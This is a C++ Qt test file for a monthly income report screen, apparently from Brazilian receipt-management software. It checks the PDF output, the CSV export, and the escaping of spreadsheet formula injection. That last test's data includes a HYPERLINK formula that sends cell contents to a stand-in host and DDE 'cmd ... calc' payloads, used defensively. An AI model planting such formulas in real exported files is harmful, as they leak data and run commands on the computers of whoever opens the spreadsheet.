#include "reports/frmRelRendimentoMensal.h"

#include "app/core/Conexao.h"
#include "controls/lvButtons.h"
#include "controls/uscSelecionaRegistro.h"
#include "controls/uscTextBox.h"
#include "reports/RendimentosMensais.h"
#include "tests/reports/RecibosDoAno.h"
#include "tests/reports/TelaRelatorioTeste.h"
#include "tests/support/TextoPdf.h"

// The monthly income of an issuer: the report's months, kinds of payer and totals for a fixture
// of two issuers and two years, and the CSV file byte for byte.
class tst_frmRelRendimentoMensal : public QObject {
  Q_OBJECT

private slots:
  void init();
  void cleanup() { teste_.fechar(); }
  void relatorioPorMesETipo();
  void exportarCsv_data();
  void exportarCsv();
  void celulasQueAPlanilhaExecutaria_data();
  void celulasQueAPlanilhaExecutaria();

private:
  void escolher(const QString& emitente, const QString& ano) const;

  TelaRelatorioTeste<frmRelRendimentoMensal> teste_;
};

void tst_frmRelRendimentoMensal::init() {
  QVERIFY(teste_.abrir("mnuRelatorioRendimentoMensal"));
  QVERIFY(GravarRecibosDoAno(*teste_.pasta));
}

void tst_frmRelRendimentoMensal::escolher(const QString& emitente, const QString& ano) const {
  teste_.tela->findChild<uscSelecionaRegistro*>(QStringLiteral("uscEmitente"))->Focar();
  QTest::keyClicks(QApplication::focusWidget(), emitente);
  QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
  DigitarSobre(teste_.tela->findChild<uscTextBox*>(QStringLiteral("txtAno"))->findChild<QLineEdit*>(), ano);
}

void tst_frmRelRendimentoMensal::relatorioPorMesETipo() {
  escolher(QStringLiteral("1"), QStringLiteral("2025"));
  teste_.tela->Visualizar();
  QCOMPARE(teste_.pasta->mensagens.quantas(), 0);
  QCOMPARE(teste_.previews(), 1);
  QTemporaryDir pasta;
  const QString pdf = pasta.filePath(QStringLiteral("rendimentos.pdf"));
  QVERIFY(teste_.relatorioMostrado()->ExportarPdf(pdf));
  const QString texto = TextoPdf(pdf).simplified();
  // Months in order, individuals before companies, one line per payer and month, exact totals.
  const QStringList esperados = {"Helena Prado · CPF 529.982.247-25 · OAB/SP 123.456 · Ano 2025",
                                 "JANEIRO/2025",
                                 "Pessoas físicas (CPF) - Carnê-Leão",
                                 "111.444.777-35 Ana Luíza Souza 150,00",
                                 "Total de pessoas físicas 150,00",
                                 "Pessoas jurídicas (CNPJ)",
                                 "11.444.777/0001-61 Mercado Bom Preço; Filial \"Sul\" 200,00",
                                 "Total de pessoas jurídicas 200,00",
                                 "Total do mês 350,00",
                                 "MARÇO/2025",
                                 "Pessoas físicas (CPF) - Carnê-Leão",
                                 "111.444.777-35 Ana Luíza Souza 124,45",
                                 "390.533.447-05 Bruno Dias 98,76",
                                 "Total de pessoas físicas 223,21",
                                 "Total do mês 223,21",
                                 "Total do ano R$ 573,21"};
  qsizetype desde = 0;
  for (const QString& esperado : esperados) {
    const qsizetype achado = texto.indexOf(esperado, desde);
    QVERIFY2(achado >= 0,
             qPrintable(QStringLiteral("sem \"%1\" depois de %2: %3").arg(esperado).arg(desde).arg(texto)));
    desde = achado + esperado.size();
  }
  for (const char* fora : {"FEVEREIRO", "DEZEMBRO", "300,00", "400,00", "Contábil Exata"})
    QVERIFY2(!texto.contains(QString::fromUtf8(fora)), qPrintable(texto));
}

void tst_frmRelRendimentoMensal::exportarCsv_data() {
  QTest::addColumn<QString>("arquivo");  // in a scratch folder; empty: the operator cancels
  QTest::addColumn<QByteArray>("conteudo");
  QTest::addColumn<QString>("mensagem");
  const QByteArray csv =
      "\xEF\xBB\xBF"
      "M\xC3\xAAs;Tipo;CPF/CNPJ;Nome;Valor (R$)\r\n"
      "01/2025;Pessoa f\xC3\xADsica;111.444.777-35;Ana Lu\xC3\xADza Souza;150,00\r\n"
      "01/2025;Pessoa jur\xC3\xAD"
      "dica;11.444.777/0001-61;\"Mercado Bom Pre\xC3\xA7o; Filial \"\"Sul\"\"\";200,00\r\n"
      "03/2025;Pessoa f\xC3\xADsica;111.444.777-35;Ana Lu\xC3\xADza Souza;124,45\r\n"
      "03/2025;Pessoa f\xC3\xADsica;390.533.447-05;Bruno Dias;98,76\r\n";
  QTest::newRow("gravado") << "rendimentos.csv" << csv << "Rendimentos de 2025 exportados para %1.";
  QTest::newRow("cancelado") << "" << QByteArray() << "";
  QTest::newRow("pasta inexistente") << "falta/rendimentos.csv" << QByteArray()
                                     << "Não foi possível gravar o arquivo %1: ";
}

void tst_frmRelRendimentoMensal::exportarCsv() {
  QFETCH(QString, arquivo);
  QFETCH(QByteArray, conteudo);
  QFETCH(QString, mensagem);
  QTemporaryDir pasta;
  const QString caminho = arquivo.isEmpty() ? QString() : pasta.filePath(arquivo);
  teste_.pasta->escolhaArquivo.responder(caminho);
  escolher(QStringLiteral("1"), QStringLiteral("2025"));
  QTest::mouseClick(teste_.tela->findChild<lvButtons*>(QStringLiteral("btnExportarCsv")), Qt::LeftButton);

  QCOMPARE(teste_.pasta->escolhaArquivo.chamadas.size(), 1);
  QCOMPARE(teste_.pasta->escolhaArquivo.chamadas.first().nomeInicial, QStringLiteral("rendimentos-2025.csv"));
  QCOMPARE(teste_.pasta->escolhaArquivo.chamadas.first().modo, ModoArquivo::Salvar);
  QCOMPARE(teste_.pasta->mensagens.quantas(), mensagem.isEmpty() ? 0 : 1);
  if (!mensagem.isEmpty())
    QVERIFY2(teste_.pasta->mensagens.ultima().texto.startsWith(mensagem.arg(caminho)),
             qPrintable(teste_.pasta->mensagens.ultima().texto));
  QFile gravado(caminho);
  QCOMPARE(gravado.exists(), !conteudo.isEmpty());
  if (!conteudo.isEmpty()) {
    QVERIFY(gravado.open(QIODevice::ReadOnly));
    QCOMPARE(gravado.readAll(), conteudo);
  }
  QCOMPARE(QDir(pasta.path()).entryList(QDir::Files).size(), conteudo.isEmpty() ? 0 : 1);
}

// A payer's name or document that a spreadsheet would run as a formula is written as text; the
// amount, which the program writes itself, stays a number even when negative.
void tst_frmRelRendimentoMensal::celulasQueAPlanilhaExecutaria_data() {
  QTest::addColumn<QString>("nome");
  QTest::addColumn<QString>("documento");
  QTest::addColumn<qint64>("valor");
  QTest::addColumn<QString>("celulas");  // CPF/CNPJ;Nome;Valor as written
  QTest::newRow("= with quotes and ;")
      << "=HYPERLINK(\"http://x.example/?\"&A1;\"Ver\")"
      << "11144477735" << qint64(1500000)
      << "111.444.777-35;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Ver\"\")\";150,00";
  QTest::newRow("+") << "+55 11 99999-0000"
                     << "11144477735" << qint64(1500000) << "111.444.777-35;'+55 11 99999-0000;150,00";
  QTest::newRow("-") << "-2+3+cmd|' /C calc'!A0"
                     << "11144477735" << qint64(1500000) << "111.444.777-35;'-2+3+cmd|' /C calc'!A0;150,00";
  QTest::newRow("@") << "@SUM(1+1)*cmd|' /C calc'!A0"
                     << "11144477735" << qint64(1500000) << "111.444.777-35;'@SUM(1+1)*cmd|' /C calc'!A0;150,00";
  QTest::newRow("tab") << "\t=1+1"
                       << "11144477735" << qint64(1500000) << "111.444.777-35;'\t=1+1;150,00";
  QTest::newRow("carriage return, quoted") << "\r=1+1"
                                           << "11144477735" << qint64(1500000) << "111.444.777-35;\"'\r=1+1\";150,00";
  QTest::newRow("after spaces") << "  =1+1"
                                << "11144477735" << qint64(1500000) << "111.444.777-35;'  =1+1;150,00";
  QTest::newRow("document that is no CPF") << "Ana"
                                           << "=1+1" << qint64(1500000) << "'=1+1;Ana;150,00";
  QTest::newRow("sign inside a name") << "Ana-Maria = Sócia"
                                      << "" << qint64(1500000) << ";Ana-Maria = Sócia;150,00";
  QTest::newRow("negative amount stays a number")
      << "Estorno"
      << "11144477735" << qint64(-100000) << "111.444.777-35;Estorno;-10,00";
}

void tst_frmRelRendimentoMensal::celulasQueAPlanilhaExecutaria() {
  QFETCH(QString, nome);
  QFETCH(QString, documento);
  QFETCH(qint64, valor);
  QFETCH(QString, celulas);
  QVERIFY(teste_.pasta->executar(QStringLiteral("INSERT INTO tbPessoa (Codigo, Descricao, TipoPessoa, Documento01) "
                                                "VALUES (7, ?, 0, ?)"),
                                 {nome, documento}));
  QVERIFY(teste_.pasta->executar(QStringLiteral("INSERT INTO tbRecibo (Codigo, Ano, DataEmissao, Valor, Recebi, "
                                                "Emitente, Referente) VALUES (8, 2025, '2025-05-02', ?, 7, 1, 'x')"),
                                 {valor}));
  QVERIFY(RendimentosMensais::Preparar(Conexao::Banco(), 1, 2025));
  QByteArray csv;
  QVERIFY(RendimentosMensais::Csv(Conexao::Banco(), csv));
  // May is the last month with receipts: its single line ends the file.
  const QByteArray linha = "\r\n05/2025;Pessoa f\xC3\xADsica;" + celulas.toUtf8() + "\r\n";
  QVERIFY2(csv.endsWith(linha), csv.constData());
}

QTEST_MAIN(tst_frmRelRendimentoMensal)
#include "tst_frmRelRendimentoMensal.moc"
